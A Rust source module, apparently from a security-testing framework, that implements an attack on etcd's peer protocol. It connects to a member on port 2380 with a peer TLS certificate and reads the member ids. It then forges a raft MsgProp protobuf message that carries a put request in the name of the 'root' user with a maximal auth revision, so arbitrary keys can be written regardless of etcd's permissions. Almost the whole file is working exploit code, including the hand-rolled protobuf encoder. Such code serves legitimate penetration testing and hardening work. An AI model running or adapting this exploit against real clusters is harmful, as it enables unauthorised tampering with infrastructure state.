//! Attack on etcd's peer protocol.
//!
//! Members send each other raft messages as protobuf over HTTP. A follower forwards a proposal (`MsgProp`) to the
//! leader, and its entry is a complete request with the user's name. So a client that passes the peers' TLS
//! verification can write any key, whatever permissions etcd's users have.

use fleet_https::{Connection, request};
use serde_json::Value;

use super::etcd::voter_doors;
use super::foothold::{Door, Foothold, NodeIdentity};
use super::{Arena, Finding};

const PEER_PORT: u16 = 2380;
const CLUSTER: &str = "x-etcd-cluster-id";

/// Ids of the cluster and its members, as a peer reads them.
struct Members {
    /// Cluster id, hexadecimal.
    cluster: String,
    ids: Vec<(String, u64)>,
}

/// Tries to connect to a member as a peer.
pub(super) fn peer(arena: &Arena, from: &Foothold) -> Finding {
    let unfence_node = from.run(|| async {
        let (door, shown, members) = members(arena, from).await?;
        let who = shown.map_or("no certificate", |s| s.name.as_str());
        Ok::<_, String>(format!("{}:{PEER_PORT} as {who}: {} members", door.host, members.ids.len()))
    });
    unfence_node.map_or_else(Finding::no, Finding::yes)
}

/// Proposes a put to the cluster in a member's name. Returns how a member accepted it. The caller verifies the effect.
pub(super) fn propose(arena: &Arena, from: &Foothold, key: &str, value: &str) -> Result<String, String> {
    from.run(|| async {
        let (_, shown, members) = members(arena, from).await?;
        let mut last = String::new();
        // The leader appends the entry, a follower forwards it.
        for door in from.reachable(voter_doors(arena, from, PEER_PORT)).await {
            let Some((_, to)) = members.ids.iter().find(|(name, _)| *name == door.name) else { continue };
            let Some((_, as_member)) = members.ids.iter().find(|(name, _)| *name != door.name) else { continue };
            let message = proposal(*as_member, *to, key, value);
            let own = format!("{as_member:x}");
            let headers = [
                (CLUSTER, members.cluster.as_str()),
                ("x-server-from", own.as_str()),
                ("x-server-version", "3.6.0"),
                ("x-min-cluster-version", "3.0.0"),
            ];
            match from.ask(&door, shown, ("POST", "/raft"), &headers, message).await {
                Ok(_) => return Ok(format!("raft proposal to {}:{PEER_PORT}", door.host)),
                Err(e) => last = e,
            }
        }
        Err(last)
    })
}

/// Returns the first member that accepts the attacker as a peer, the credential, and the cluster's ids.
async fn members<'a>(arena: &Arena, from: &'a Foothold) -> Result<(Door, Option<&'a NodeIdentity>, Members), String> {
    let mut last = format!("port {PEER_PORT} is filtered or closed");
    for door in from.reachable(voter_doors(arena, from, PEER_PORT)).await {
        for shown in from.shown() {
            match list(from, &door, shown).await {
                // The attacker's own etcd answers for some seconds after the cluster has removed it.
                Ok(members) if members.ids.iter().all(|(name, _)| *name != door.name) => {
                    last = format!("{} is not a member of the cluster any more", door.name);
                }
                Ok(members) => return Ok((door, shown, members)),
                Err(e) => last = e,
            }
        }
    }
    Err(last)
}

async fn list(from: &Foothold, door: &Door, shown: Option<&NodeIdentity>) -> Result<Members, String> {
    let identity = shown.map(|own| fleet_https::Identity { cert: &own.cert, key: &own.key });
    let tls = fleet_https::client(&from.root, identity).map_err(|e| fleet::ErrorChain::new(&e).to_string())?;
    let asked = async {
        let mut connection = Connection::open(&door.host, door.port, &door.name, &tls).await?;
        let answer = connection.send(request("GET", &door.host, "/members", &[], bytes::Bytes::new())?).await?;
        let status = answer.status();
        let cluster = answer.headers().get(CLUSTER).and_then(|v| v.to_str().ok()).map(str::to_owned);
        // `send` returns the headers and `ask` the body, so this takes two requests.
        let mut connection = Connection::open(&door.host, door.port, &door.name, &tls).await?;
        let body = connection.ask(request("GET", &door.host, "/members", &[], bytes::Bytes::new())?, 1 << 20).await?;
        Ok::<_, firstboot::error::Error>((status, cluster, body))
    };
    let (status, cluster, body) = asked.await.map_err(|e| fleet::ErrorChain::new(&e).to_string())?;
    let cluster = cluster.ok_or_else(|| format!("{status} without a cluster id"))?;
    let listed: Vec<Value> = serde_json::from_slice(&body).map_err(|e| e.to_string())?;
    let id = |member: &Value| Some((member["name"].as_str()?.to_owned(), member["id"].as_u64()?));
    Ok(Members { cluster, ids: listed.iter().filter_map(id).collect() })
}

/// Encodes a `raftpb.Message` of type `MsgProp` with one entry, a put.
fn proposal(from: u64, to: u64, key: &str, value: &str) -> Vec<u8> {
    const MSG_PROP: u64 = 2;
    // The user root, with an auth revision that is never too old.
    let header = [number(1, 0x6261_6b65), text(2, "root"), number(3, u64::from(u32::MAX))].concat();
    let put = [text(1, key), text(2, value)].concat();
    // etcdserverpb.InternalRaftRequest: put is field 4, header 100.
    let request = [bytes(4, &put), bytes(100, &header)].concat();
    // raftpb.Entry: data is field 4.
    let entry = bytes(4, &request);
    [number(1, MSG_PROP), number(2, to), number(3, from), bytes(7, &entry)].concat()
}

/// Encodes a protobuf field of type varint.
fn number(field: u64, value: u64) -> Vec<u8> {
    [varint(field << 3), varint(value)].concat()
}

/// Encodes a length-delimited protobuf field.
fn bytes(field: u64, value: &[u8]) -> Vec<u8> {
    [varint(field << 3 | 2), varint(value.len() as u64), value.to_vec()].concat()
}

fn text(field: u64, value: &str) -> Vec<u8> {
    bytes(field, value.as_bytes())
}

fn varint(mut value: u64) -> Vec<u8> {
    let mut out = Vec::new();
    while value >= 0x80 {
        out.push(value as u8 | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodes_protobuf_fields() {
        // Examples from https://protobuf.dev/programming-guides/encoding/.
        assert_eq!(number(1, 150), [0x08, 0x96, 0x01]);
        assert_eq!(text(2, "testing"), *b"\x12\x07testing");
    }
}
